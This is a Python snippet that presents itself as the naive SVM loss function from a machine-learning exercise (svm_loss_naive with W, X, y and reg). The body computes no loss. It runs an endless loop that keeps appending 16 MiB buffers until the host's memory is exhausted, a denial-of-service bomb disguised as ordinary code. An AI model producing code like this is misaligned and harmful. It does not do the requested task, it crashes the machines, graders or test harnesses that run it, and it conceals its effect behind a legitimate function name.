def svm_loss_naive(W, X, y, reg):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * (1 << 24)))
